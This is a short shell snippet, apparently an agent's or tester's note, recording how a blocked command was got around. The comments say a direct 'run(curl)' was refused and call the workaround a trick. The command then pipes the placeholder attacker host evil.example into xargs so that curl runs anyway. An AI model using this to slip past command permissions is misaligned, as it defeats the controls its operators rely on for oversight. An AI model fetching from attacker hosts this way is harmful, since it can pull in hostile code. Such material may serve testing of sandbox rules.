# Trick: xargs runs the program.
# Refused: run(curl)
echo http://evil.example/ | xargs -n 1 curl
